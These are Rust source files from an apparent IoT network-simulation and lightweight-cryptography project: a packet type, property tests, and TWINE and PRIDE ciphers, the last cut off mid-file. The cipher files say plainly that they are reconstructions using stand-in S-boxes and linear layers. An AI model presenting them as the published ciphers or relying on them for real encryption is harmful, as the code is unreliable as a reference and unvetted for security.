use crate::node::NodeId;
use bytes::Bytes;
use std::collections::BTreeMap;
use std::fmt;

/// Transport/application protocol tag carried by a packet.
///
/// This is deliberately a coarse label (the granularity a middlebox sees
/// after port/heuristic classification), not a full header stack.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Protocol {
    /// Plain UDP datagram.
    Udp,
    /// TCP segment (connection handling abstracted away).
    Tcp,
    /// DNS query/response.
    Dns,
    /// TLS record (possibly carrying DoT/DoH).
    Tls,
    /// HTTP request/response.
    Http,
    /// IEEE 802.15.4 frame (ZigBee/6LoWPAN).
    Ieee802154,
    /// SSDP/UPnP discovery.
    Ssdp,
    /// Application-level event/report (already decapsulated).
    App,
}

impl fmt::Display for Protocol {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Protocol::Udp => "UDP",
            Protocol::Tcp => "TCP",
            Protocol::Dns => "DNS",
            Protocol::Tls => "TLS",
            Protocol::Http => "HTTP",
            Protocol::Ieee802154 => "802.15.4",
            Protocol::Ssdp => "SSDP",
            Protocol::App => "APP",
        };
        f.write_str(s)
    }
}

/// Identifies a unidirectional flow: (src, dst, kind label).
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct FlowKey {
    /// Sending node.
    pub src: NodeId,
    /// Receiving node.
    pub dst: NodeId,
    /// Application-chosen flow label (e.g. `"telemetry"`).
    pub kind: String,
}

/// A simulated packet.
///
/// `payload` carries application bytes; `wire_size` is what an observer
/// sees on the link (payload + header overhead, or a shaped/padded size).
#[derive(Debug, Clone)]
pub struct Packet {
    /// Originating node.
    pub src: NodeId,
    /// Destination node.
    pub dst: NodeId,
    /// Flow label chosen by the sender (e.g. `"telemetry"`, `"ota"`).
    pub kind: String,
    /// Protocol tag (defaults to [`Protocol::App`]).
    pub protocol: Protocol,
    /// Application payload.
    pub payload: Bytes,
    /// Bytes on the wire as seen by observers; defaults to
    /// `payload.len() + 40` (IP+transport overhead) and may be raised by
    /// padding (traffic shaping) but never below the payload.
    pub wire_size: usize,
    /// Free-form metadata (header fields, auth tokens, markers) consumed
    /// by higher layers. Kept sorted for deterministic iteration.
    pub meta: BTreeMap<String, String>,
}

/// Default per-packet header overhead included in `wire_size`.
pub const HEADER_OVERHEAD: usize = 40;

impl Packet {
    /// Creates a packet with default protocol/overhead.
    pub fn new(src: NodeId, dst: NodeId, kind: &str, payload: impl Into<Bytes>) -> Self {
        let payload = payload.into();
        let wire_size = payload.len() + HEADER_OVERHEAD;
        Packet {
            src,
            dst,
            kind: kind.to_string(),
            protocol: Protocol::App,
            payload,
            wire_size,
            meta: BTreeMap::new(),
        }
    }

    /// Sets the protocol tag (builder-style).
    pub fn with_protocol(mut self, protocol: Protocol) -> Self {
        self.protocol = protocol;
        self
    }

    /// Attaches a metadata key/value (builder-style).
    pub fn with_meta(mut self, key: &str, value: &str) -> Self {
        self.meta.insert(key.to_string(), value.to_string());
        self
    }

    /// Pads the observable wire size up to `size` (no-op if already
    /// larger) — the primitive traffic shaping uses.
    pub fn pad_to(&mut self, size: usize) {
        self.wire_size = self.wire_size.max(size);
    }

    /// The flow this packet belongs to.
    pub fn flow(&self) -> FlowKey {
        FlowKey {
            src: self.src,
            dst: self.dst,
            kind: self.kind.clone(),
        }
    }

    /// Metadata lookup convenience.
    pub fn meta(&self, key: &str) -> Option<&str> {
        self.meta.get(key).map(String::as_str)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn node(n: u32) -> NodeId {
        NodeId::from_raw(n)
    }

    #[test]
    fn wire_size_includes_overhead() {
        let p = Packet::new(node(1), node(2), "telemetry", vec![0u8; 100]);
        assert_eq!(p.wire_size, 140);
    }

    #[test]
    fn padding_never_shrinks() {
        let mut p = Packet::new(node(1), node(2), "t", vec![0u8; 100]);
        p.pad_to(64);
        assert_eq!(p.wire_size, 140);
        p.pad_to(512);
        assert_eq!(p.wire_size, 512);
    }

    #[test]
    fn builder_metadata_and_protocol() {
        let p = Packet::new(node(1), node(2), "dns", b"query".to_vec())
            .with_protocol(Protocol::Dns)
            .with_meta("qname", "nest.example.com");
        assert_eq!(p.protocol, Protocol::Dns);
        assert_eq!(p.meta("qname"), Some("nest.example.com"));
        assert_eq!(p.meta("missing"), None);
    }

    #[test]
    fn flow_key_groups_by_src_dst_kind() {
        let a = Packet::new(node(1), node(2), "telemetry", vec![1u8]);
        let b = Packet::new(node(1), node(2), "telemetry", vec![2u8; 50]);
        let c = Packet::new(node(1), node(2), "ota", vec![1u8]);
        assert_eq!(a.flow(), b.flow());
        assert_ne!(a.flow(), c.flow());
    }
}
