//! Property-based tests over the simulator: time algebra, link delay
//! monotonicity, engine conservation laws, and determinism.

use proptest::prelude::*;
use xlf_simnet::{Duration, Medium, Network, Node, Packet, SimTime};

struct Quiet;
impl Node for Quiet {}

fn media() -> impl Strategy<Value = Medium> {
    prop::sample::select(vec![
        Medium::Ethernet,
        Medium::Wifi,
        Medium::Zigbee,
        Medium::Zwave,
        Medium::Ble,
        Medium::SixLowpan,
        Medium::Wan,
    ])
}

proptest! {
    /// Time arithmetic: associativity with durations, ordering, and
    /// saturating subtraction.
    #[test]
    fn time_algebra(a in 0u64..1_000_000_000, b in 0u64..1_000_000, c in 0u64..1_000_000) {
        let t = SimTime::from_micros(a);
        let d1 = Duration::from_micros(b);
        let d2 = Duration::from_micros(c);
        prop_assert_eq!((t + d1) + d2, t + (d1 + d2));
        prop_assert!(t + d1 >= t);
        prop_assert_eq!((t + d1) - t, d1);
        prop_assert_eq!(t - (t + d1), Duration::ZERO); // saturating
        prop_assert_eq!(t.since(t + d1), Duration::ZERO);
    }

    /// Link delay is monotone in packet size and never below the latency.
    #[test]
    fn link_delay_monotone(medium in media(), small in 1usize..512, extra in 1usize..2048) {
        let link = medium.link();
        let d_small = link.delay_for(small);
        let d_big = link.delay_for(small + extra);
        prop_assert!(d_big >= d_small);
        prop_assert!(d_small >= link.latency);
    }

    /// Conservation: every injected packet is delivered, lost, or
    /// unroutable — nothing vanishes, nothing duplicates.
    #[test]
    fn packet_conservation(n in 1usize..64, loss in 0.0f64..0.9, seed in any::<u64>()) {
        let mut net = Network::new(seed);
        let a = net.add_node(Box::new(Quiet));
        let b = net.add_node(Box::new(Quiet));
        net.connect(a, b, Medium::Wifi.link().with_loss(loss));
        for i in 0..n {
            net.inject(a, b, Packet::new(a, b, "x", vec![i as u8]));
        }
        let stats = net.run();
        prop_assert_eq!(stats.sent as usize, n);
        prop_assert_eq!((stats.delivered + stats.lost) as usize, n);
        prop_assert_eq!(stats.no_route, 0);
    }

    /// Unconnected destinations are all counted as unroutable.
    #[test]
    fn no_route_accounting(n in 1usize..32) {
        let mut net = Network::new(1);
        let a = net.add_node(Box::new(Quiet));
        let b = net.add_node(Box::new(Quiet));
        for _ in 0..n {
            net.inject(a, b, Packet::new(a, b, "x", vec![0u8]));
        }
        let stats = net.run();
        prop_assert_eq!(stats.no_route as usize, n);
        prop_assert_eq!(stats.delivered, 0);
    }

    /// Determinism: identical seeds and workloads give identical stats.
    #[test]
    fn engine_is_deterministic(seed in any::<u64>(), n in 1usize..48) {
        let run = |seed: u64| {
            let mut net = Network::new(seed);
            let a = net.add_node(Box::new(Quiet));
            let b = net.add_node(Box::new(Quiet));
            net.connect(a, b, Medium::Wifi.link().with_loss(0.3));
            for i in 0..n {
                net.inject(a, b, Packet::new(a, b, "x", vec![i as u8]));
            }
            net.run()
        };
        prop_assert_eq!(run(seed), run(seed));
    }

    /// Padding never shrinks the observable size and is idempotent at the
    /// target.
    #[test]
    fn packet_padding(payload_len in 0usize..512, pad in 0usize..2048) {
        let a = xlf_simnet::NodeId::from_raw(0);
        let b = xlf_simnet::NodeId::from_raw(1);
        let mut p = Packet::new(a, b, "x", vec![0u8; payload_len]);
        let before = p.wire_size;
        p.pad_to(pad);
        prop_assert!(p.wire_size >= before);
        prop_assert!(p.wire_size >= pad.min(before).min(p.wire_size));
        let once = p.wire_size;
        p.pad_to(pad);
        prop_assert_eq!(p.wire_size, once);
    }
}

use std::cell::RefCell;
use std::rc::Rc;
use xlf_simnet::{Context, Node as NodeTrait, TimerId};

/// One scripted step, consumed per timer firing: arm `rearm` fresh
/// timers at `delay_ms` (+0, +1, ... so equal deadlines are common) and
/// optionally cancel the oldest outstanding timer first.
type ChurnOp = (u64, u8, bool);

/// A node that churns the scheduler according to a proptest-generated
/// script: every firing cancels and re-arms timers, recycling arena
/// slots through the free list, while a shared log records the exact
/// `(time, arm-order tag)` firing sequence.
struct Churner {
    script: Vec<ChurnOp>,
    pc: usize,
    outstanding: Vec<TimerId>,
    next_tag: u64,
    log: Rc<RefCell<Vec<(u64, u64)>>>,
}

impl Churner {
    fn arm(&mut self, ctx: &mut Context<'_>, delay_ms: u64) {
        let id = ctx.set_timer(Duration::from_millis(delay_ms), self.next_tag);
        self.next_tag += 1;
        self.outstanding.push(id);
    }
}

impl NodeTrait for Churner {
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        // Seed the churn with deliberate equal-deadline groups.
        for delay in [5, 5, 5, 10, 10, 20] {
            self.arm(ctx, delay);
        }
    }

    fn on_timer(&mut self, ctx: &mut Context<'_>, timer: TimerId, tag: u64) {
        self.outstanding.retain(|&t| t != timer);
        self.log.borrow_mut().push((ctx.now().as_micros(), tag));
        if self.pc >= self.script.len() {
            return; // script exhausted: let the run drain and stop
        }
        let (delay_ms, rearm, cancel) = self.script[self.pc];
        self.pc += 1;
        if cancel && !self.outstanding.is_empty() {
            let victim = self.outstanding.remove(0);
            ctx.cancel_timer(victim);
        }
        for r in 0..rearm {
            self.arm(ctx, delay_ms + (r as u64 % 2)); // frequent ties
        }
    }
}

fn churn_script() -> impl Strategy<Value = Vec<ChurnOp>> {
    prop::collection::vec((0u64..6, 0u8..4, any::<bool>()), 1..64)
}

fn run_churn(script: &[ChurnOp]) -> Vec<(u64, u64)> {
    let log = Rc::new(RefCell::new(Vec::new()));
    let mut net = Network::new(99);
    net.add_node(Box::new(Churner {
        script: script.to_vec(),
        pc: 0,
        outstanding: Vec::new(),
        next_tag: 0,
        log: log.clone(),
    }));
    net.run();
    let fired = log.borrow().clone();
    fired
}

proptest! {
    /// Arena/free-list reuse never reorders equal-time events: across
    /// arbitrary cancel/re-arm sequences the run is (a) reproducible and
    /// (b) seq-tie-break-preserving — timers sharing a deadline fire in
    /// the order they were armed, which is arm-tag order because effect
    /// application assigns seq numbers in arm order.
    #[test]
    fn scheduler_churn_preserves_equal_time_order(script in churn_script()) {
        let log = run_churn(&script);
        prop_assert_eq!(&log, &run_churn(&script), "run not reproducible");
        for pair in log.windows(2) {
            let (t0, tag0) = pair[0];
            let (t1, tag1) = pair[1];
            prop_assert!(t0 <= t1, "time went backwards: {t0} > {t1}");
            if t0 == t1 {
                prop_assert!(
                    tag0 < tag1,
                    "equal-time events reordered: tag {tag0} fired before {tag1} at t={t0}"
                );
            }
        }
    }
}
