//! Property-based tests over the cryptographic core: every invariant here
//! must hold for *arbitrary* inputs, not just the unit-test corpus.

use proptest::prelude::*;
use xlf_lwcrypto::ciphers::{Aes, Present80, Speck128};
use xlf_lwcrypto::hash::LightHash;
use xlf_lwcrypto::kdf::derive_key;
use xlf_lwcrypto::mac::CbcMac;
use xlf_lwcrypto::modes::{Cbc, Ctr};
use xlf_lwcrypto::searchable::{match_rule, Tokenizer};
use xlf_lwcrypto::{registry, BlockCipher};

proptest! {
    /// Every registry cipher decrypts what it encrypts, for any block.
    #[test]
    fn all_ciphers_roundtrip_any_block(seed in any::<[u8; 8]>(), block_fill in any::<u8>()) {
        for cipher in registry(&seed) {
            let mut block = vec![block_fill; cipher.block_size()];
            let original = block.clone();
            cipher.encrypt_block(&mut block).unwrap();
            cipher.decrypt_block(&mut block).unwrap();
            prop_assert_eq!(&block, &original, "{}", cipher.info().name);
        }
    }

    /// AES roundtrips any key-size/block combination.
    #[test]
    fn aes_roundtrips(key in prop::collection::vec(any::<u8>(), 16..=16),
                      block in prop::collection::vec(any::<u8>(), 16..=16)) {
        let aes = Aes::new(&key).unwrap();
        let mut b: [u8; 16] = block.as_slice().try_into().unwrap();
        let original = b;
        aes.encrypt_block(&mut b).unwrap();
        aes.decrypt_block(&mut b).unwrap();
        prop_assert_eq!(b, original);
    }

    /// CTR is an involution for any payload and nonce.
    #[test]
    fn ctr_is_an_involution(key in any::<[u8; 16]>(),
                            nonce in any::<[u8; 16]>(),
                            payload in prop::collection::vec(any::<u8>(), 0..512)) {
        let cipher = Speck128::new(&key).unwrap();
        let mut data = payload.clone();
        Ctr::new(&cipher, &nonce).apply(&mut data);
        Ctr::new(&cipher, &nonce).apply(&mut data);
        prop_assert_eq!(data, payload);
    }

    /// CTR keystream never degenerates: non-empty plaintexts change
    /// (probabilistically certain; a failure means a broken keystream).
    #[test]
    fn ctr_changes_nonempty_payloads(key in any::<[u8; 16]>(),
                                     payload in prop::collection::vec(any::<u8>(), 16..256)) {
        let cipher = Speck128::new(&key).unwrap();
        let mut data = payload.clone();
        Ctr::new(&cipher, &[0u8; 16]).apply(&mut data);
        prop_assert_ne!(data, payload);
    }

    /// CBC decrypt(encrypt(m)) == m for any message and IV.
    #[test]
    fn cbc_roundtrips(key in any::<[u8; 10]>(),
                      iv in any::<[u8; 8]>(),
                      payload in prop::collection::vec(any::<u8>(), 0..256)) {
        let cipher = Present80::new(&key).unwrap();
        let cbc = Cbc::new(&cipher);
        let ct = cbc.encrypt(&iv, &payload).unwrap();
        prop_assert_eq!(cbc.decrypt(&iv, &ct).unwrap(), payload);
    }

    /// CBC ciphertext is always block-aligned and strictly longer than
    /// the plaintext (PKCS#7 always pads).
    #[test]
    fn cbc_padding_invariants(key in any::<[u8; 10]>(),
                              payload in prop::collection::vec(any::<u8>(), 0..256)) {
        let cipher = Present80::new(&key).unwrap();
        let ct = Cbc::new(&cipher).encrypt(&[0u8; 8], &payload).unwrap();
        prop_assert_eq!(ct.len() % 8, 0);
        prop_assert!(ct.len() > payload.len());
        prop_assert!(ct.len() <= payload.len() + 8);
    }

    /// MAC verification accepts the genuine tag and rejects any
    /// single-bit corruption of it.
    #[test]
    fn mac_rejects_any_bit_flip(key in any::<[u8; 16]>(),
                                message in prop::collection::vec(any::<u8>(), 0..128),
                                bit in 0usize..128) {
        let cipher = Speck128::new(&key).unwrap();
        let mac = CbcMac::new(&cipher);
        let tag = mac.tag(&message).unwrap();
        prop_assert!(mac.verify(&message, &tag).unwrap());
        let mut bad = tag.clone();
        bad[bit / 8] ^= 1 << (bit % 8);
        prop_assert!(!mac.verify(&message, &bad).unwrap());
    }

    /// MAC is message-sensitive: appending a byte changes the tag.
    #[test]
    fn mac_extension_changes_tag(key in any::<[u8; 16]>(),
                                 message in prop::collection::vec(any::<u8>(), 0..128),
                                 extra in any::<u8>()) {
        let cipher = Speck128::new(&key).unwrap();
        let mac = CbcMac::new(&cipher);
        let tag = mac.tag(&message).unwrap();
        let mut extended = message.clone();
        extended.push(extra);
        prop_assert_ne!(mac.tag(&extended).unwrap(), tag);
    }

    /// Hash: deterministic, and streaming in arbitrary chunkings matches
    /// the one-shot digest.
    #[test]
    fn hash_chunking_is_irrelevant(data in prop::collection::vec(any::<u8>(), 0..512),
                                   split in 0usize..512) {
        let split = split.min(data.len());
        let mut h = LightHash::new();
        h.update(&data[..split]);
        h.update(&data[split..]);
        prop_assert_eq!(h.finalize(), LightHash::digest(&data));
    }

    /// Hash input sensitivity: flipping any bit changes the digest.
    #[test]
    fn hash_bit_flip_changes_digest(data in prop::collection::vec(any::<u8>(), 1..256),
                                    bit in 0usize..2048) {
        let bit = bit % (data.len() * 8);
        let mut flipped = data.clone();
        flipped[bit / 8] ^= 1 << (bit % 8);
        prop_assert_ne!(LightHash::digest(&data), LightHash::digest(&flipped));
    }

    /// KDF: exact lengths, prefix consistency, context separation.
    #[test]
    fn kdf_invariants(secret in prop::collection::vec(any::<u8>(), 1..64),
                      len in 1usize..128) {
        let a = derive_key(&secret, "ctx-a", len).unwrap();
        prop_assert_eq!(a.len(), len);
        let longer = derive_key(&secret, "ctx-a", len + 16).unwrap();
        prop_assert_eq!(&longer[..len], &a[..]);
        let b = derive_key(&secret, "ctx-b", len).unwrap();
        prop_assert_ne!(a, b);
    }

    /// Searchable encryption: a keyword embedded at any offset in any
    /// padding is found; the same keyword under a different session key
    /// never matches.
    #[test]
    fn searchable_finds_embedded_keywords(prefix in prop::collection::vec(0x20u8..0x7f, 0..64),
                                          suffix in prop::collection::vec(0x20u8..0x7f, 0..64)) {
        let keyword = b"MALWARE-SIGNATURE";
        let mut payload = prefix.clone();
        payload.extend_from_slice(keyword);
        payload.extend_from_slice(&suffix);

        let t = Tokenizer::new(b"session").unwrap();
        let traffic = t.tokenize(&payload);
        let rule = t.rule_tokens(keyword);
        prop_assert_eq!(match_rule(&traffic, &rule).first().copied(), Some(prefix.len()));

        let other = Tokenizer::new(b"other session").unwrap();
        let foreign_rule = other.rule_tokens(keyword);
        prop_assert!(match_rule(&traffic, &foreign_rule).is_empty());
    }
}

use xlf_lwcrypto::searchable::{Token, TokenIndex};

/// Raw token sequences drawn from a 4-symbol token alphabet, so first-
/// window collisions, overlapping rules, and empty rule sequences all
/// occur often.
fn tiny_token() -> impl Strategy<Value = Token> {
    (0u8..4).prop_map(|v| [v; 8])
}

fn token_rules() -> impl Strategy<Value = Vec<Vec<Token>>> {
    prop::collection::vec(prop::collection::vec(tiny_token(), 0..5), 1..10)
}

fn token_traffic() -> impl Strategy<Value = Vec<Token>> {
    prop::collection::vec(tiny_token(), 0..48)
}

proptest! {
    /// The token index returns exactly the naive `match_rule` answer for
    /// arbitrary rule sets and traffic streams — first offsets and the
    /// full position lists.
    #[test]
    fn token_index_equals_naive_scan(rules in token_rules(),
                                     traffic in token_traffic()) {
        let index = TokenIndex::build(rules.clone());
        let expected_firsts: Vec<Option<usize>> = rules
            .iter()
            .map(|r| match_rule(&traffic, r).first().copied())
            .collect();
        prop_assert_eq!(index.find_first_per_rule(&traffic), expected_firsts);
        let expected_all: Vec<Vec<usize>> =
            rules.iter().map(|r| match_rule(&traffic, r)).collect();
        prop_assert_eq!(index.find_positions(&traffic), expected_all);
    }

    /// Same equivalence through the real tokenizer: random keywords
    /// (including empty and overlapping ones) against random payloads.
    #[test]
    fn token_index_equals_naive_scan_via_tokenizer(
        keywords in prop::collection::vec(prop::collection::vec(97u8..100, 0..12), 1..8),
        payload in prop::collection::vec(97u8..100, 0..64),
        secret in "[a-z]{4,12}") {
        let t = Tokenizer::new(secret.as_bytes()).unwrap();
        let rules: Vec<Vec<Token>> = keywords.iter().map(|k| t.rule_tokens(k)).collect();
        let traffic = t.tokenize(&payload);
        let index = TokenIndex::build(rules.clone());
        let expected: Vec<Option<usize>> = rules
            .iter()
            .map(|r| match_rule(&traffic, r).first().copied())
            .collect();
        prop_assert_eq!(index.find_first_per_rule(&traffic), expected);
    }
}
