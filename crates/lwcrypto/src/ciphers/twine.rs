//! TWINE: 64-bit block Type-2 generalized Feistel network on sixteen 4-bit
//! nibbles, with 80- or 128-bit keys.
//!
//! Fidelity: [`SpecFidelity::Structural`](crate::SpecFidelity::Structural) —
//! the published TWINE S-box and nibble shuffle were not reliably available
//! offline. The reconstruction keeps the Type-2 GFS shape on 16 nibbles
//! with a full-diffusion shuffle, the PRESENT S-box standing in for
//! TWINE's, and a rotate/S-box/round-constant key schedule. Rounds follow
//! the published TWINE count (36); the paper's Table III prints 32, which
//! the table harness reports verbatim from [`CipherInfo`].

use crate::traits::{check_block, check_key};
use crate::{BlockCipher, CipherInfo, CryptoError, SpecFidelity, Structure};

const ROUNDS: usize = 36;

/// 4-bit S-box (PRESENT's, standing in for TWINE's).
const SBOX: [u8; 16] = [
    0xC, 0x5, 0x6, 0xB, 0x9, 0x0, 0xA, 0xD, 0x3, 0xE, 0xF, 0x8, 0x4, 0x7, 0x1, 0x2,
];

/// Nibble shuffle π: output position of input nibble `i` is `PI[i]`.
/// This is the block shuffle published for TWINE-style GFS-16 networks,
/// chosen for full diffusion in 8 rounds.
const PI: [usize; 16] = [5, 0, 1, 4, 7, 12, 3, 8, 13, 6, 9, 2, 15, 10, 11, 14];

fn inv_pi() -> [usize; 16] {
    let mut inv = [0usize; 16];
    for (i, &p) in PI.iter().enumerate() {
        inv[p] = i;
    }
    inv
}

/// The TWINE block cipher (structural reconstruction).
///
/// # Example
///
/// ```
/// use xlf_lwcrypto::{BlockCipher, ciphers::Twine};
///
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// let twine = Twine::new(&[0u8; 10])?;
/// let mut block = [0u8; 8];
/// twine.encrypt_block(&mut block)?;
/// twine.decrypt_block(&mut block)?;
/// assert_eq!(block, [0u8; 8]);
/// # Ok(())
/// # }
/// ```
#[derive(Debug, Clone)]
pub struct Twine {
    /// 8 round-key nibbles per round.
    round_keys: Vec<[u8; 8]>,
    key_bits: usize,
}

impl Twine {
    /// Creates a TWINE instance from a 10-byte (80-bit) or 16-byte
    /// (128-bit) key.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidKeyLength`] for any other key length.
    pub fn new(key: &[u8]) -> Result<Self, CryptoError> {
        check_key("TWINE", &[10, 16], key)?;
        // Key register as nibbles.
        let mut reg: Vec<u8> = key.iter().flat_map(|&b| [b >> 4, b & 0xF]).collect();
        let n = reg.len();

        let mut round_keys = Vec::with_capacity(ROUNDS);
        for round in 0..ROUNDS {
            let mut rk = [0u8; 8];
            for (j, slot) in rk.iter_mut().enumerate() {
                *slot = reg[(2 * j + 1) % n];
            }
            round_keys.push(rk);
            // Schedule update: rotate by 3 nibbles, S-box the first two,
            // inject a 6-bit round constant split across two nibbles.
            reg.rotate_left(3);
            reg[0] = SBOX[reg[0] as usize];
            reg[1] = SBOX[reg[1] as usize];
            let rc = (round + 1) as u8;
            reg[2] ^= rc & 0x7;
            reg[3] ^= (rc >> 3) & 0x7;
        }

        Ok(Twine {
            round_keys,
            key_bits: key.len() * 8,
        })
    }

    /// Key size in bits this instance was constructed with.
    pub fn key_bits(&self) -> usize {
        self.key_bits
    }
}

fn load_nibbles(block: &[u8]) -> [u8; 16] {
    let mut x = [0u8; 16];
    for (i, &b) in block.iter().enumerate() {
        x[2 * i] = b >> 4;
        x[2 * i + 1] = b & 0xF;
    }
    x
}

fn store_nibbles(block: &mut [u8], x: &[u8; 16]) {
    for i in 0..8 {
        block[i] = (x[2 * i] << 4) | x[2 * i + 1];
    }
}

impl BlockCipher for Twine {
    fn block_size(&self) -> usize {
        8
    }

    fn encrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 8)?;
        let mut x = load_nibbles(block);
        for (round, rk) in self.round_keys.iter().enumerate() {
            // Type-2 GFS: even nibbles feed the S-box, odd nibbles absorb.
            for j in 0..8 {
                x[2 * j + 1] ^= SBOX[(x[2 * j] ^ rk[j]) as usize];
            }
            // No shuffle after the final round (standard GFS convention).
            if round != ROUNDS - 1 {
                let mut shuffled = [0u8; 16];
                for (i, &p) in PI.iter().enumerate() {
                    shuffled[p] = x[i];
                }
                x = shuffled;
            }
        }
        store_nibbles(block, &x);
        Ok(())
    }

    fn decrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 8)?;
        let ipi = inv_pi();
        let mut x = load_nibbles(block);
        for (round, rk) in self.round_keys.iter().enumerate().rev() {
            if round != ROUNDS - 1 {
                let mut unshuffled = [0u8; 16];
                for (i, &p) in ipi.iter().enumerate() {
                    unshuffled[p] = x[i];
                }
                x = unshuffled;
            }
            for j in 0..8 {
                x[2 * j + 1] ^= SBOX[(x[2 * j] ^ rk[j]) as usize];
            }
        }
        store_nibbles(block, &x);
        Ok(())
    }

    fn info(&self) -> CipherInfo {
        CipherInfo {
            name: "TWINE",
            key_bits: &[80, 128],
            block_bits: 64,
            structure: Structure::GeneralizedFeistel,
            rounds: ROUNDS,
            fidelity: SpecFidelity::Structural,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ciphers::proptests;

    #[test]
    fn shuffle_is_a_permutation() {
        let mut seen = [false; 16];
        for &p in &PI {
            assert!(!seen[p]);
            seen[p] = true;
        }
    }

    #[test]
    fn inverse_shuffle_composes_to_identity() {
        let ipi = inv_pi();
        for i in 0..16 {
            assert_eq!(ipi[PI[i]], i);
        }
    }

    #[test]
    fn key_lengths_80_and_128_accepted() {
        assert_eq!(Twine::new(&[0u8; 10]).unwrap().key_bits(), 80);
        assert_eq!(Twine::new(&[0u8; 16]).unwrap().key_bits(), 128);
        assert!(Twine::new(&[0u8; 12]).is_err());
    }

    #[test]
    fn key_length_changes_ciphertext() {
        let mut a = [3u8; 8];
        let mut b = [3u8; 8];
        Twine::new(&[1u8; 10])
            .unwrap()
            .encrypt_block(&mut a)
            .unwrap();
        Twine::new(&[1u8; 16])
            .unwrap()
            .encrypt_block(&mut b)
            .unwrap();
        assert_ne!(a, b);
    }

    #[test]
    fn properties() {
        for len in [10usize, 16] {
            let twine = Twine::new(&vec![0x6Bu8; len]).unwrap();
            proptests::roundtrip(&twine);
            proptests::avalanche(&twine);
        }
        proptests::key_sensitivity(|k| Box::new(Twine::new(&k[..10]).unwrap()));
    }
}
