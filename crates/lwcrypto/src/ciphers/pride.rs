//! PRIDE: 64-bit block, 128-bit key, 20-round SPN optimized for software on
//! 8-bit microcontrollers (CRYPTO 2014).
//!
//! Fidelity: [`SpecFidelity::Structural`](crate::SpecFidelity::Structural) —
//! PRIDE's published matrix-based linear layer and S-box were not reliably
//! available offline. The reconstruction keeps the Table III parameters
//! (64-bit block, 128-bit key, 20 rounds, SPN) and PRIDE's published
//! key-schedule shape: the first key half is used for whitening, the second
//! half generates round keys by byte-wise addition of round-dependent
//! constants. A 4-bit S-box and a rotation-based invertible linear layer
//! stand in for the published ones.

use crate::traits::{check_block, check_key};
use crate::{BlockCipher, CipherInfo, CryptoError, SpecFidelity, Structure};

const ROUNDS: usize = 20;

/// 4-bit S-box (the PRINCE S-box family shape; stands in for PRIDE's).
const SBOX: [u8; 16] = [
    0xB, 0xF, 0x3, 0x2, 0xA, 0xC, 0x9, 0x1, 0x6, 0x7, 0x8, 0x0, 0xE, 0x5, 0xD, 0x4,
];

fn inv_sbox() -> [u8; 16] {
    let mut inv = [0u8; 16];
    for (i, &s) in SBOX.iter().enumerate() {
        inv[s as usize] = i as u8;
    }
    inv
}

fn sub_nibbles(x: u64, sbox: &[u8; 16]) -> u64 {
    let mut out = 0u64;
    for nib in 0..16 {
        let v = ((x >> (4 * nib)) & 0xF) as usize;
        out |= (sbox[v] as u64) << (4 * nib);
    }
    out
}

/// Linear layer: mix the four 16-bit slices with rotations; invertible
/// because each slice map x ↦ x ⊕ (x<<<1) ⊕ (x<<<2)… is composed with a
/// slice-level swap. We use a bijective construction: interleave the
/// slices then rotate each by a distinct amount.
fn linear(x: u64) -> u64 {
    let s0 = (x & 0xFFFF) as u16;
    let s1 = ((x >> 16) & 0xFFFF) as u16;
    let s2 = ((x >> 32) & 0xFFFF) as u16;
    let s3 = ((x >> 48) & 0xFFFF) as u16;
    // Mix: each output slice is the XOR of two rotated input slices plus
    // itself — an invertible triangular-ish system, inverted explicitly in
    // `inv_linear`.
    let t0 = s0.rotate_left(1) ^ s1;
    let t1 = s1.rotate_left(3) ^ s2;
    let t2 = s2.rotate_left(5) ^ s3;
    let t3 = s3.rotate_left(7) ^ t0;
    ((t3 as u64) << 48) | ((t2 as u64) << 32) | ((t1 as u64) << 16) | t0 as u64
}

fn inv_linear(x: u64) -> u64 {
    let t0 = (x & 0xFFFF) as u16;
    let t1 = ((x >> 16) & 0xFFFF) as u16;
    let t2 = ((x >> 32) & 0xFFFF) as u16;
    let t3 = ((x >> 48) & 0xFFFF) as u16;
    let s3 = (t3 ^ t0).rotate_right(7);
    let s2 = (t2 ^ s3).rotate_right(5);
    let s1 = (t1 ^ s2).rotate_right(3);
    let s0 = (t0 ^ s1).rotate_right(1);
    ((s3 as u64) << 48) | ((s2 as u64) << 32) | ((s1 as u64) << 16) | s0 as u64
}

/// The PRIDE block cipher (structural reconstruction).
///
/// # Example
///
/// ```
/// use xlf_lwcrypto::{BlockCipher, ciphers::Pride};
///
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// let pride = Pride::new(&[0u8; 16])?;
/// let mut block = [0u8; 8];
/// pride.encrypt_block(&mut block)?;
/// pride.decrypt_block(&mut block)?;
/// assert_eq!(block, [0u8; 8]);
/// # Ok(())
/// # }
/// ```
#[derive(Debug, Clone)]
pub struct Pride {
    whitening: u64,
    round_keys: [u64; ROUNDS],
}

impl Pride {
    /// Creates a PRIDE instance from a 16-byte key.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidKeyLength`] unless the key is 16 bytes.
    pub fn new(key: &[u8]) -> Result<Self, CryptoError> {
        check_key("PRIDE", &[16], key)?;
        let whitening = u64::from_be_bytes(key[0..8].try_into().expect("8 bytes"));
        let k1: [u8; 8] = key[8..16].try_into().expect("8 bytes");
        let mut round_keys = [0u64; ROUNDS];
        for (i, rk) in round_keys.iter_mut().enumerate() {
            // PRIDE-style schedule: add round-dependent constants to
            // alternating bytes of the second key half.
            let mut bytes = k1;
            let r = (i + 1) as u8;
            bytes[1] = bytes[1].wrapping_add(r.wrapping_mul(193));
            bytes[3] = bytes[3].wrapping_add(r.wrapping_mul(165));
            bytes[5] = bytes[5].wrapping_add(r.wrapping_mul(81));
            bytes[7] = bytes[7].wrapping_add(r.wrapping_mul(197));
            *rk = u64::from_be_bytes(bytes);
        }
        Ok(Pride {
            whitening,
            round_keys,
        })
    }
}

impl BlockCipher for Pride {
